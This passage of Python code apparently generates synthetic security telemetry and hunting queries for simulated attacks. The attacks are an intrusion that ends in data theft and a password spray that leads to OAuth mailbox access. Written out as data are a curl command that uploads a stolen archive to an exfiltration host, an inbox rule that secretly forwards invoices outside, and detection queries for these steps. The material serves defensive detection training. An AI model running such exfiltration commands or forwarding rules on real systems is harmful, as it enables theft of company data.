| union (DeviceProcessEvents
    | where InitiatingProcessFileName =~ "WmiPrvSE.exe" and FileName =~ "powershell.exe" and ProcessCommandLine has "-enc"
    | project Timestamp, DeviceName, ServiceName = "", ImagePath = ProcessCommandLine, AccountName)""", "T1021.002")

        # 10. inbox forwarding rule, 11. mass download (the victim's session, from the office address)
        t_r = t_dl + 4 * HOUR
        fwd = f"{t.ids.hex(6, 'fwd')}.invoices@proton.me"
        k.add("CloudAppEvents", t_r, {"Application": "Microsoft Exchange Online", "ApplicationId": 20893, "ActionType": "New-InboxRule",
                                      "ActivityType": "Create", "AccountObjectId": A.oid[victim], "AccountId": A.oid[victim],
                                      "AccountDisplayName": A.display[victim], "IsAdminOperation": False, "DeviceType": "Desktop",
                                      "OSPlatform": "Windows 10", "IPAddress": v_pub, "IsAnonymousProxy": False, "CountryCode": site.iso,
                                      "City": site.city, "Isp": t.org_name, "UserAgent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/121.0.0.0 Safari/537.36 Edg/121.0.0.0",
                                      "ObjectName": ".", "ObjectType": "Inbox rule", "ReportId": ids.guid("s1rule"), "AccountType": "Regular",
                                      "IsExternalUser": False, "IsImpersonated": False, "IPCategory": "Corporate",
                                      "RawEventData": js({"CreationTime": TN.iso(t_r)[:19], "Operation": "New-InboxRule", "Workload": "Exchange",
                                                          "UserId": A.upn[victim], "ClientIP": v_pub, "ResultStatus": "True",
                                                          "Parameters": [{"Name": "Name", "Value": "."}, {"Name": "ForwardTo", "Value": fwd},
                                                                         {"Name": "SubjectOrBodyContainsWords", "Value": "invoice;payment;wire"},
                                                                         {"Name": "MarkAsRead", "Value": "True"}, {"Name": "StopProcessingRules", "Value": "True"},
                                                                         {"Name": "MoveToFolder", "Value": "RSS Feeds"}]}),
                                      "ActivityObjects": js([{"Type": "Mailbox", "Role": "Target object", "Name": A.upn[victim]}])})
        self._stage(story, "inbox-rule", "An inbox rule forwards invoices outside and hides them", t_r,
                    ["CloudAppEvents"], {"account": A.upn[victim], "forward_to": fwd, "rule": "."},
                    """CloudAppEvents
| where ActionType in ("New-InboxRule", "Set-InboxRule", "UpdateInboxRules")
| where RawEventData has_any ("ForwardTo", "ForwardAsAttachmentTo", "RedirectTo")
| project Timestamp, AccountDisplayName, IPAddress, ObjectName, RawEventData""", "T1114.003")
        t_dl2 = t_dl + 5 * HOUR
        n_files = 320
        for j in range(n_files):
            stem = f"{['Q3 Forecast', 'Budget 2026', 'Payroll Summary', 'Vendor Contract', 'Customer List', 'Audit Findings'][j % 6]} {j // 6 + 1:03d}"
            ext = [".xlsx", ".docx", ".pdf"][j % 3]
            name = stem + ext
            url = f"https://{t.tenant_short}.sharepoint.com/sites/Finance/Shared Documents/{name}"
            k.add("CloudAppEvents", t_dl2 + j * 4 * US + (j % 7) * 300_000,
                  {"Application": "Microsoft SharePoint Online", "ApplicationId": 20892, "ActionType": "FileDownloaded", "ActivityType": "Download",
                   "AccountObjectId": A.oid[victim], "AccountId": A.oid[victim], "AccountDisplayName": A.display[victim],
                   "IsAdminOperation": False, "DeviceType": "Desktop", "OSPlatform": "Windows 10", "IPAddress": v_pub,
                   "IsAnonymousProxy": False, "CountryCode": site.iso, "City": site.city, "Isp": t.org_name,
                   "UserAgent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/121.0.0.0 Safari/537.36 Edg/121.0.0.0",
                   "ObjectName": url, "ObjectType": "File", "ReportId": ids.guid("s1dl", j), "AccountType": "Regular", "IPCategory": "Corporate",
                   "ActivityObjects": js([{"Type": "File", "Role": "Target object", "Name": name, "Id": url}]),
                   "RawEventData": js({"Operation": "FileDownloaded", "Workload": "SharePoint", "UserId": A.upn[victim], "ClientIP": v_pub,
                                       "SourceFileName": name, "SiteUrl": f"https://{t.tenant_short}.sharepoint.com/sites/Finance/",
                                       "ObjectId": url})})
        self._stage(story, "mass-download", f"{n_files} SharePoint files downloaded in half an hour", t_dl2,
                    ["CloudAppEvents"], {"account": A.upn[victim], "site": f"https://{t.tenant_short}.sharepoint.com/sites/Finance/", "files": n_files},
                    """CloudAppEvents
| where ActionType in ("FileDownloaded", "FileSyncDownloadedFull")
| summarize Files = dcount(ObjectName) by AccountDisplayName, AccountObjectId, IPAddress, bin(Timestamp, 1h)
| where Files >= 100""", "T1530")

        # 12. exfiltration: archive and upload
        t_x = t_dl + 6 * HOUR
        sh2 = k.spawn(rdl, "cmd", '"cmd.exe" /Q', t_x)
        z = k.spawn(sh2, "sevenzip", f'"C:\\Program Files\\7-Zip\\7z.exe" a -mx3 -p{ids.hex(10, "zpw")} {archive} C:\\Users\\{A.sam[victim]}\\Downloads\\*.xlsx C:\\Users\\{A.sam[victim]}\\Documents\\*',
                    t_x + 2 * US)
        arch_dir, arch_name = archive.rsplit("\\", 1)
        a = filerow(z, t_x + 40 * US, "FileCreated", arch_dir, arch_name, {"FileSize": 187_433_211})
        up = k.spawn(sh2, "curl", f'curl.exe -s -k -X POST -F "file=@{archive}" https://{exfil}/api/v2/upload', t_x + 2 * MIN)
        for j in range(6):
            netrow(up, t_x + 2 * MIN + j * 20 * US, exfil_ip, 443, exfil)
        self._stage(story, "exfiltration", "A password-protected archive is uploaded to a file-sharing host", t_x,
                    ["DeviceProcessEvents", "DeviceFileEvents", "DeviceNetworkEvents"],
                    {"device": D.name[vdev], "archive": archive, "domain": exfil, "ip": exfil_ip},
                    f"""DeviceProcessEvents
| where FileName in~ ("curl.exe", "powershell.exe", "rclone.exe") and ProcessCommandLine has_any ("-F", "upload", "Invoke-RestMethod")
| where ProcessCommandLine has @"C:\\Users\\Public\\"
| join kind=inner (DeviceNetworkEvents | where RemoteUrl =~ "{exfil}") on DeviceId
| project Timestamp, DeviceName, ProcessCommandLine, RemoteUrl, RemoteIP""", "T1567.002")

        # alerts raised along the way
        self._alerts(story, [
            (t_open + 2 * MIN, "Suspicious PowerShell command line", "Execution", "Medium", "Microsoft Defender for Endpoint", "EDR",
             '["PowerShell (T1059.001)","Phishing: Spearphishing Attachment (T1566.001)"]', vdev, victim, ps),
            (t_l + MIN, "Possible credential dumping using comsvcs.dll", "CredentialAccess", "High", "Microsoft Defender for Endpoint", "EDR",
             '["OS Credential Dumping: LSASS Memory (T1003.001)"]', vdev, victim, dump),
            (t_k + MIN, "Suspected Kerberos SPN exposure", "CredentialAccess", "High", "Microsoft Defender for Identity",
             "Microsoft Defender for Identity", '["Steal or Forge Kerberos Tickets: Kerberoasting (T1558.003)"]', vdev, victim, None),
            (t_m + MIN, "Suspicious service creation on remote host", "LateralMovement", "High", "Microsoft Defender for Endpoint", "EDR",
             '["Remote Services: SMB/Windows Admin Shares (T1021.002)"]', fs, svc_acct, c_fs),
            (t_r + 2 * MIN, "Suspicious inbox forwarding rule", "Exfiltration", "Medium", "Microsoft Defender for Cloud Apps",
             "Microsoft Defender for Cloud Apps", '["Email Collection: Email Forwarding Rule (T1114.003)"]', vdev, victim, None),
        ])
        self.story_docs.append(story)

    def _alerts(self, story, specs):
        k, t = self.kit, self.t
        A, D = t.accounts, t.devices
        ids = t.ids
        alert_ids = []
        for j, (ts, title, cat, sev, svc, det, tech, dev, acct, proc) in enumerate(specs):
            aid = ("da" + str(638_500_000_000_000_000 + ts % 10**15) + f"_{-ids.integer(10**8, 2 * 10**9, 'aid', story['id'], j)}"
                   if svc == "Microsoft Defender for Endpoint" else
                   {"Microsoft Defender for Identity": "aa", "Microsoft Defender for Cloud Apps": "ca",
                    "Microsoft Entra ID Protection": "ad", "Microsoft Defender for Office 365": "fa"}.get(svc, "ra") + ids.guid("al", story["id"], j))
            alert_ids.append(aid)
            k.add("AlertInfo", ts, {"AlertId": aid, "Title": title, "Category": cat, "Severity": sev, "ServiceSource": svc,
                                    "DetectionSource": det, "AttackTechniques": tech})
            base = {"AlertId": aid, "Title": title, "Categories": js([cat]), "AttackTechniques": tech, "ServiceSource": svc,
                    "DetectionSource": det, "Severity": sev}
            if dev is not None:
                k.add("AlertEvidence", ts, {**base, "EntityType": "Machine", "EvidenceRole": "Impacted", **k.dev(dev), "LocalIP": D.ip[dev],
                                            "AdditionalFields": js({"HostName": D.short[dev], "OSFamily": "Windows"})})
            if acct is not None:
                k.add("AlertEvidence", ts, {**base, "EntityType": "User", "EvidenceRole": "Impacted", "AccountName": A.sam[acct],
                                            "AccountDomain": A.domain[acct], "AccountSid": A.sid[acct], "AccountObjectId": A.oid[acct],
                                            "AccountUpn": A.upn[acct]})
            if proc is not None:
                im = self.gen.world.images
                k.add("AlertEvidence", ts, {**base, "EntityType": "Process", "EvidenceRole": "Related", **k.dev(proc.dev),
                                            "FileName": im.name.values[proc.image], "FolderPath": proc.folder,
                                            "SHA1": im.sha1.values[proc.image], "SHA256": im.sha256.values[proc.image],
                                            "ProcessCommandLine": proc.cmd})
        titles = [s[1] for s in specs]
        first = min(s[0] for s in specs)
        self._stage(story, "alerts", "Detections raised along the way", first, ["AlertInfo", "AlertEvidence"],
                    {"alert_ids": alert_ids, "titles": titles},
                    "AlertInfo\n| where AlertId in (" + ", ".join(f'"{a}"' for a in alert_ids) + ")\n"
                    "| join kind=inner AlertEvidence on AlertId\n| summarize Entities = make_set(EntityType) by AlertId, Title, Severity")

    # -- story 2 ---------------------------------------------------------------------------------------
    def _story_spray(self):
        t, k = self.t, self.kit
        A = t.accounts
        ids = t.ids
        day = self._pick_day(1.5, False)
        s0 = max(day.lo, day.start + 2 * HOUR + 10 * MIN)
        if s0 + 5 * HOUR > t.end_us:
            s0 = max(t.start_us + HOUR, t.end_us - 6 * HOUR)
        place = N.FOREIGN_PLACES[t.cfg.seed % len(N.FOREIGN_PLACES)]
        city, state, country_name, iso, lat, lon = place
        spray_ip = ids.public_ip(["185.220.100.0/22", "194.26.192.0/22", "45.155.204.0/22"], "spray", t.cfg.seed)
        cloud_ip = ids.public_ip(["102.88.0.0/16", "41.58.0.0/16", "5.2.64.0/18"], "cloudip", t.cfg.seed)
        people = [p for p in t.people if A.enabled[p]]
        targets = people[: min(len(people), 60)]
        sales = [p for p in targets if A.dept[p] in ("Sales", "Marketing", "Customer Support")] or targets
        victim = sales[ids.integer(0, len(sales), "victim2")]
        story = {"id": "password-spray-to-mailbox", "title": "Password spray to mailbox access",
                 "summary": (f"A password spray from {spray_ip} ({country_name}) against {len(targets)} Entra ID accounts succeeds for "
                             f"{A.upn[victim]}; the attacker consents to an OAuth app that reads mail, which then reads the "
                             f"mailbox from {city}, {country_name}, a country the tenant never signs in from."),
                 "victim": {"account": A.sam[victim], "upn": A.upn[victim], "object_id": A.oid[victim]},
                 "indicators": {"spray_ip": spray_ip, "country": iso, "app_ip": cloud_ip}, "stages": []}
        app_name = ["MailSync Pro", "Docu Viewer Plus", "Outlook Secure Archive"][t.cfg.seed % 3]
        app_id = ids.guid("oauthapp")
        story["indicators"].update({"oauth_app": app_name, "oauth_app_id": app_id})
        ua_spray = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/114.0.0.0 Safari/537.36"

        def signin(ts, acct, err, app, app_id_, ip, extra=None, key=""):
            row = {"Application": app, "ApplicationId": app_id_, "LogonType": '["interactiveUser"]', "EndpointCall": "OAuth2:Token",
                   "ErrorCode": err, "CorrelationId": ids.guid("s2c", key), "SessionId": ids.guid("s2s", key),
                   "RequestId": ids.guid("s2r", key), "AccountDisplayName": A.display[acct], "AccountObjectId": A.oid[acct],
                   "AccountUpn": A.upn[acct], "IsExternalUser": 0, "IsGuestUser": False,
                   "LastPasswordChangeTimestamp": A.pwd_last_set_us[acct], "ResourceDisplayName": app, "ResourceId": app_id_,
                   "ResourceTenantId": t.tenant_id, "DeviceName": "", "OSPlatform": "Windows 10", "DeviceTrustType": "", "IsManaged": 0,
                   "IsCompliant": 0, "AuthenticationRequirement": "singleFactorAuthentication", "RiskLevelAggregated": 1,
                   "RiskLevelDuringSignIn": 0, "RiskState": 0, "RiskEventTypes": "[]", "UserAgent": ua_spray,
                   "ClientAppUsed": "Mobile Apps and Desktop clients", "Browser": "Chrome 114.0.0", "ConditionalAccessPolicies": "[]",
                   "ConditionalAccessStatus": 2, "IPAddress": ip, "Country": iso, "State": state, "City": city, "Latitude": lat,
                   "Longitude": lon, "NetworkLocationDetails": "[]", "ReportId": ids.guid("s2rep", key), "AlternateSignInName": A.upn[acct]}
            row.update(extra or {})
            k.add("EntraIdSignInEvents", ts, {**row, "TokenIssuerType": "AzureAD", "TenantId": t.tenant_id, "Type": "EntraIdSignInEvents",
                                               "SourceSystem": "Azure", "TimeGenerated": ts, "EntraIdDeviceId": ""})
            k.add("AADSignInEventsBeta", ts, {**row, "TokenIssuerType": 0, "ReportId": ids.guid("s2repb", key), "AadDeviceId": ""})

        exo = ("Office 365 Exchange Online", "00000002-0000-0ff1-ce00-000000000000")
        for j, p in enumerate(targets):
            ts = s0 + j * 31 * US + (j % 5) * 3 * US
            signin(ts, p, 50126 if p != victim else 50126, exo[0], exo[1], spray_ip, key=f"f{j}")
            k.add("IdentityLogonEvents", ts, {"ActionType": "LogonFailed", "Application": "Microsoft 365", "LogonType": "OAuth2:Token",
                                              "Protocol": "", "FailureReason": "InvalidUserNameOrPassword", **k.acc(p),
                                              "AccountDisplayName": A.display[p], "IPAddress": spray_ip, "Location": iso, "Isp": "Stark Industries Solutions",
                                              "DeviceType": "Desktop", "OSPlatform": "Windows", "ReportId": ids.guid("s2id", j),
                                              "AdditionalFields": js({"ARG.CLOUD_SERVICE": exo[0], "Authentication method": "Password"})})
        self._stage(story, "password-spray", f"{len(targets)} accounts tried once each from one address", s0,
                    ["EntraIdSignInEvents", "AADSignInEventsBeta", "IdentityLogonEvents"],
                    {"ip": spray_ip, "country": iso, "accounts": len(targets)},
                    f"""EntraIdSignInEvents
| where IPAddress == "{spray_ip}" and ErrorCode == 50126
| summarize FailedAccounts = dcount(AccountObjectId), First = min(Timestamp), Last = max(Timestamp) by IPAddress, Country
| where FailedAccounts >= 10""", "T1110.003")
        t_ok = s0 + len(targets) * 31 * US + 4 * MIN
        signin(t_ok, victim, 0, exo[0], exo[1], spray_ip, {"RiskLevelDuringSignIn": 50, "RiskState": 4, "RiskLevelAggregated": 50,
                                                             "RiskEventTypes": '["unfamiliarFeatures","anonymizedIPAddress"]'}, key="ok")
        k.add("IdentityLogonEvents", t_ok, {"ActionType": "LogonSuccess", "Application": "Microsoft 365", "LogonType": "OAuth2:Token",
                                            "Protocol": "", **k.acc(victim), "AccountDisplayName": A.display[victim], "IPAddress": spray_ip,
                                            "Location": iso, "Isp": "Stark Industries Solutions", "DeviceType": "Desktop", "OSPlatform": "Windows",
                                            "ReportId": ids.guid("s2idok"), "AdditionalFields": js({"ARG.CLOUD_SERVICE": exo[0]})})
        self._stage(story, "spray-success", "The spray succeeds for one account", t_ok,
                    ["EntraIdSignInEvents", "AADSignInEventsBeta", "IdentityLogonEvents"],
                    {"account": A.upn[victim], "ip": spray_ip, "country": iso},
                    f"""let SprayIPs = EntraIdSignInEvents
    | where ErrorCode == 50126
    | summarize Failed = dcount(AccountObjectId) by IPAddress
    | where Failed >= 10 and IPAddress == "{spray_ip}";
EntraIdSignInEvents
| where ErrorCode == 0 and IPAddress in (SprayIPs)
| project Timestamp, AccountUpn, IPAddress, Country, Application, RiskLevelDuringSignIn""", "T1078.004")
        # consent to the app
        t_c = t_ok + 15 * MIN
        scope = "Mail.Read Mail.ReadWrite Mail.Send offline_access User.Read"
        sp_id = ids.guid("spid")
        common = {"Application": "Office 365", "ApplicationId": 11161, "AccountObjectId": A.oid[victim], "AccountId": A.oid[victim],
                  "AccountDisplayName": A.display[victim], "IsAdminOperation": False, "DeviceType": "Desktop", "OSPlatform": "Windows 10",
                  "IPAddress": spray_ip, "IsAnonymousProxy": True, "CountryCode": iso, "City": city, "Isp": "Stark Industries Solutions",
                  "UserAgent": ua_spray, "AccountType": "Regular", "IPCategory": "Hosting", "ObjectType": "Application", "ObjectName": app_name}
        k.add("CloudAppEvents", t_c, {**common, "ActionType": "Consent to application.", "ActivityType": "Edit", "ReportId": ids.guid("s2consent"),
                                      "ObjectId": app_id, "OAuthAppId": app_id,
                                      "RawEventData": js({"Operation": "Consent to application.", "Workload": "AzureActiveDirectory", "UserId": A.upn[victim],
                                                          "ResultStatus": "Success",
                                                          "ModifiedProperties": [{"Name": "ConsentContext.IsAdminConsent", "NewValue": "False", "OldValue": ""},
                                                                                 {"Name": "ConsentContext.IsAppOnly", "NewValue": "False", "OldValue": ""},
                                                                                 {"Name": "ConsentContext.OnBehalfOfAll", "NewValue": "False", "OldValue": ""},
                                                                                 {"Name": "ConsentContext.Tags", "NewValue": "WindowsAzureActiveDirectoryIntegratedApp", "OldValue": ""},
                                                                                 {"Name": "ConsentAction.Permissions", "NewValue": f"[] => [[Id: {ids.hex(20, 'gr')}, ClientId: {sp_id}, PrincipalId: {A.oid[victim]}, ResourceId: {ids.guid('graphsp')}, ConsentType: Principal, Scope:  {scope}]]; ", "OldValue": ""}],
                                                          "Target": [{"ID": f"ServicePrincipal_{sp_id}", "Type": 2}, {"ID": sp_id, "Type": 2},
                                                                     {"ID": "ServicePrincipal", "Type": 2}, {"ID": app_name, "Type": 1}, {"ID": app_id, "Type": 2}]})})
        k.add("CloudAppEvents", t_c + 2 * US, {**common, "ActionType": "Add delegated permission grant.", "ActivityType": "Edit",
                                               "ReportId": ids.guid("s2grant"), "ObjectId": sp_id, "OAuthAppId": app_id,
                                               "RawEventData": js({"Operation": "Add delegated permission grant.", "Workload": "AzureActiveDirectory",
                                                                   "UserId": A.upn[victim], "ResultStatus": "Success",
                                                                   "ModifiedProperties": [{"Name": "DelegatedPermissionGrant.Scope", "NewValue": scope, "OldValue": ""}],
                                                                   "Target": [{"ID": "ServicePrincipal_" + ids.guid("graphsp"), "Type": 2}, {"ID": ids.guid("graphsp"), "Type": 2},
                                                                              {"ID": "ServicePrincipal", "Type": 2}, {"ID": "Microsoft Graph", "Type": 1}]})})
        self._stage(story, "oauth-consent", f"Consent to '{app_name}' with mail permissions", t_c, ["CloudAppEvents"],
                    {"account": A.upn[victim], "app": app_name, "app_id": app_id, "scopes": scope, "ip": spray_ip},
                    """CloudAppEvents
| where ActionType == "Consent to application."
| where RawEventData has_any ("Mail.Read", "Mail.ReadWrite", "Mail.Send")
| extend IsAdminConsent = tostring(RawEventData.ModifiedProperties[0].NewValue)
| project Timestamp, AccountDisplayName, ObjectName, IPAddress, CountryCode, IsAdminConsent""", "T1528")
        # mailbox reads by the app from the new country
        t_m = t_c + 20 * MIN
        for j in range(48):
            ts = t_m + j * 2 * MIN + (j % 3) * 7 * US
            k.add("CloudAppEvents", ts, {"Application": "Microsoft Exchange Online", "ApplicationId": 20893, "ActionType": "MailItemsAccessed",
                                         "ActivityType": "Read", "AccountObjectId": A.oid[victim], "AccountId": A.oid[victim],
                                         "AccountDisplayName": A.display[victim], "IsAdminOperation": False, "DeviceType": "Other",
                                         "OSPlatform": "", "IPAddress": cloud_ip, "IsAnonymousProxy": False, "CountryCode": iso, "City": city,
                                         "Isp": "Hosting", "UserAgent": "", "AccountType": "Application", "IPCategory": "Hosting",
                                         "ObjectName": A.upn[victim], "ObjectType": "Mailbox", "ReportId": ids.guid("s2mail", j), "OAuthAppId": app_id,
                                         "RawEventData": js({"Operation": "MailItemsAccessed", "Workload": "Exchange", "UserId": A.upn[victim],
                                                             "MailboxOwnerUPN": A.upn[victim], "ClientIP": cloud_ip, "ResultStatus": "Succeeded",
                                                             "AppId": "00000003-0000-0000-c000-000000000000", "ClientAppId": app_id,
                                                             "OperationCount": 40 + j % 60, "MailboxGuid": ids.guid("mbx", victim),
                                                             "OperationProperties": [{"Name": "MailAccessType", "Value": "Bind"}, {"Name": "IsThrottled", "Value": "False"}],
                                                             "Folders": [{"Path": "\\Inbox", "FolderItems": [{"InternetMessageId": f"<{ids.hex(20, 'mi', j)}@{t.mail_domain}>"}]}]})})
        signin(t_m - MIN, victim, 0, app_name, app_id, cloud_ip, {"LogonType": '["nonInteractiveUser"]', "RiskLevelDuringSignIn": 10,
                                                                  "ClientAppUsed": "Mobile Apps and Desktop clients", "UserAgent": "python-requests/2.31.0",
                                                                  "Browser": ""}, key="app")
        self._stage(story, "mailbox-access", f"The app reads the mailbox from {country_name}", t_m, ["CloudAppEvents", "EntraIdSignInEvents"],
                    {"account": A.upn[victim], "app_id": app_id, "ip": cloud_ip, "country": iso},
                    f"""CloudAppEvents
| where ActionType == "MailItemsAccessed" and CountryCode == "{iso}"
| extend ClientAppId = tostring(RawEventData.ClientAppId)
| summarize Reads = count(), Items = sum(toint(RawEventData.OperationCount)) by AccountDisplayName, ClientAppId, IPAddress, CountryCode""",
                    "T1114.002")
        self._alerts(story, [
            (t_ok + 20 * MIN, "Password Spray", "CredentialAccess", "High", "Microsoft Entra ID Protection", "Microsoft Entra ID Protection",
             '["Brute Force: Password Spraying (T1110.003)"]', None, victim, None),
            (t_c + 30 * MIN, "Suspicious OAuth app consent with mail permissions", "Persistence", "Medium", "Microsoft Defender for Cloud Apps",
             "Microsoft Defender for Cloud Apps", '["Steal Application Access Token (T1528)"]', None, victim, None),
        ])
        self.story_docs.append(story)


def _hashes(k: Kit, path: str) -> dict:
    f = k.file(path)
    return {"SHA1": f["sha1"], "SHA256": f["sha256"], "MD5": f["md5"], "FileSize": int(f["size"])}


from typing import Optional  # noqa: E402  (used in annotations above)
